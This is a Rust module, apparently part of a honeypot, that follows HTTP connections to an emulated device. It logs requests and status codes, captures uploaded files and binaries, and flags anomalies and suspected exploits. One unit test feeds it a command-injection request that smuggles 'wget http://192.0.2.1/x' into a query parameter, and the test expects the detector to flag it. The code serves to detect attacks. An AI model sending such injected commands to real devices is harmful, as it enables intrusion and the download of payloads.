//! What is written down about a request, whoever answers it: the product's pages here, or its own server.
//!
//! Key type: [`Watch`], which reads a connection along; [`note_request`] and [`keep_uploads`] are shared with
//! `exchange.rs`.
use super::body::{Body, uploaded_files};
use super::decode::{Plus, percent};
use super::request::{Head, parse_head};
use super::suspicion::suspect;
use crate::config::HttpConfig;
use crate::session::{Session, sha256};
use otori_event::{Artifact, CaptureMethod, EventKind, RawText};
use std::collections::VecDeque;
use std::sync::Arc;

/// Bytes of a body that an event shows.
const BODY_SHOWN: usize = 2048;
/// Requests of one connection that wait for their answer.
const WAITING_MAX: usize = 32;
/// `HTTP/1.1 200`
const STATUS_LINE: usize = 12;

/// Writes a request down.
pub(super) fn note_request(session: &Session, head: &Head, body: &[u8], status: u16) {
    let field = |name| RawText::new(head.field(name).unwrap_or_default());
    session.emit(EventKind::HttpRequest {
        method: RawText::new(&head.method),
        target: RawText::new(&head.target),
        host: field("host"),
        user_agent: field("user-agent"),
        body: RawText::new(&body[..body.len().min(BODY_SHOWN)]),
        status,
    });
}

/// Files in a form, or a body that is a file.
pub(super) fn keep_uploads(session: &Session, head: &Head, body: &[u8]) {
    let mut files: Vec<(Vec<u8>, Vec<u8>)> =
        uploaded_files(head, body).into_iter().map(|part| (part.file_name, part.bytes)).collect();
    let kind = head.field("content-type").unwrap_or_default().to_ascii_lowercase();
    let is_program = body.starts_with(b"\x7fELF") || body.starts_with(b"#!");
    if head.method == b"PUT" || kind.starts_with(b"application/octet-stream") || is_program {
        files.push((percent(head.path_and_query().0, Plus::Plain), body.to_vec()));
    }
    for (name, bytes) in files.into_iter().filter(|(_, bytes)| !bytes.is_empty()) {
        let artifact = Artifact {
            sha256: sha256(&bytes),
            size: bytes.len() as u64,
            name: RawText::new(name),
            mode: 0o644,
            url: None,
            method: CaptureMethod::Upload,
        };
        session.emit_file(EventKind::FileCaptured { artifact }, bytes);
    }
}

/// Reads along a connection that the device's own server answers.
pub struct Watch {
    session: Arc<Session>,
    config: HttpConfig,
    bytes: Vec<u8>,
    request: Option<(Head, Body)>,
    /// requests without an answer yet
    waiting: VecDeque<(Head, Vec<u8>)>,
    /// the start of the answer to the first of them
    answer: Vec<u8>,
    /// what came was no HTTP: nothing more is looked at
    blind: bool,
}

impl Watch {
    /// For one connection.
    pub fn new(session: Arc<Session>, config: HttpConfig) -> Watch {
        let (bytes, answer, waiting) = (Vec::new(), Vec::new(), VecDeque::new());
        Watch { session, config, bytes, request: None, waiting, answer, blind: false }
    }
    /// Bytes of the peer's.
    pub fn asked(&mut self, bytes: &[u8]) {
        if self.blind {
            return;
        }
        self.bytes.extend_from_slice(bytes);
        while !self.blind && self.take_request() {}
    }
    /// Bytes of the server's.
    pub fn answered(&mut self, bytes: &[u8]) {
        if self.waiting.is_empty() {
            return;
        }
        self.answer.extend(bytes.iter().take(STATUS_LINE.saturating_sub(self.answer.len())));
        if self.answer.len() == STATUS_LINE {
            self.note_first();
        }
    }
    /// The connection is over: what was not answered is written down with status 0.
    pub fn finish(&mut self) {
        while !self.waiting.is_empty() {
            self.note_first();
        }
    }
    fn note_first(&mut self) {
        let answer = std::mem::take(&mut self.answer);
        let digits = answer.strip_prefix(b"HTTP/1.").and_then(|rest| rest.get(2..5));
        let text = digits.and_then(|digits| std::str::from_utf8(digits).ok());
        let status = text.and_then(|text| text.parse().ok()).unwrap_or(0);
        if let Some((head, body)) = self.waiting.pop_front() {
            note_request(&self.session, &head, &body, status);
        }
    }
    /// Reads one step further; false when bytes are missing.
    fn take_request(&mut self) -> bool {
        let Some((head, mut body)) = self.request.take() else { return self.take_head() };
        match body.push(&self.bytes) {
            Ok(used) => drop(self.bytes.drain(..used)),
            Err(error) => {
                self.give_up(&error.to_string());
                return false;
            }
        }
        if !body.is_complete() {
            self.request = Some((head, body));
            return false;
        }
        self.whole(head, body.into_bytes());
        !self.bytes.is_empty()
    }
    fn take_head(&mut self) -> bool {
        match parse_head(&self.bytes, self.config.head_bytes) {
            Ok(None) => false,
            Ok(Some((head, length))) => {
                self.bytes.drain(..length);
                match Body::new(head.framing, self.config.body_bytes) {
                    Ok(body) => self.request = Some((head, body)),
                    Err(error) => self.give_up(&error.to_string()),
                }
                !self.blind
            }
            Err(bad) => {
                self.give_up(&bad.to_string());
                false
            }
        }
    }
    fn give_up(&mut self, what: &str) {
        self.session.anomaly(what, &self.bytes[..self.bytes.len().min(512)]);
        self.bytes = Vec::new();
        self.blind = true;
    }
    fn whole(&mut self, head: Head, body: Vec<u8>) {
        for oddity in &head.oddities {
            self.session.anomaly(oddity, &head.target);
        }
        if let Some((technique, detail)) = suspect(&head, &body) {
            let detail = RawText::new(detail);
            self.session.emit(EventKind::Exploit { technique: technique.into(), detail });
        }
        keep_uploads(&self.session, &head, &body);
        if self.waiting.len() >= WAITING_MAX {
            self.note_first();
        }
        self.waiting.push_back((head, body));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::tests::{kinds, session};

    fn check(asked: &[&str], answered: &[&str], expect: &[(&str, u16)]) {
        let (session, _) = session(100);
        let mut watch = Watch::new(session.clone(), HttpConfig::default());
        for piece in asked {
            watch.asked(piece.as_bytes());
        }
        for piece in answered {
            watch.answered(piece.as_bytes());
        }
        watch.finish();
        let seen: Vec<(String, u16)> = kinds(&session)
            .into_iter()
            .filter_map(|kind| match kind {
                EventKind::HttpRequest { target, status, .. } => Some((target.to_string(), status)),
                EventKind::Anomaly { what, .. } => Some((what, 0)),
                EventKind::Exploit { technique, .. } => Some((technique, 0)),
                _ => None,
            })
            .collect();
        let seen: Vec<(&str, u16)> = seen.iter().map(|(text, status)| (&text[..], *status)).collect();
        assert_eq!(seen, expect, "{asked:?}");
    }

    #[test]
    fn requests_are_read_along_in_any_pieces() {
        check(&["GET /a HT", "TP/1.0\r\n\r", "\n"], &["HTTP/1.0 2", "00 OK\r\n"], &[("/a", 200)]);
        check(
            &["POST /b HTTP/1.1\r\nContent-Length: 4\r\n\r\nab", "cdGET /c HTTP/1.1\r\n\r\n"],
            &["HTTP/1.1 302 Found\r\n\r\n", "HTTP/1.1 404 x"],
            &[("/b", 302), ("/c", 404)],
        );
    }

    #[test]
    fn what_crashes_the_server_is_written_down_all_the_same() {
        check(&["GET /x HTTP/1.0\r\n\r\n"], &[], &[("/x", 0)]);
        check(
            &["GET /set?a=1;wget%20http://192.0.2.1/x HTTP/1.0\r\n\r\n"],
            &["junk"],
            &[("http-command-injection", 0), ("/set?a=1;wget%20http://192.0.2.1/x", 0)],
        );
        check(&["\x16\x03\x01 \x02\r\n\r\n"], &[], &[("http.bad_request_line", 0)]);
        check(&[&"A".repeat(70_000)], &[], &[("http.head_too_large", 0)]);
    }
}
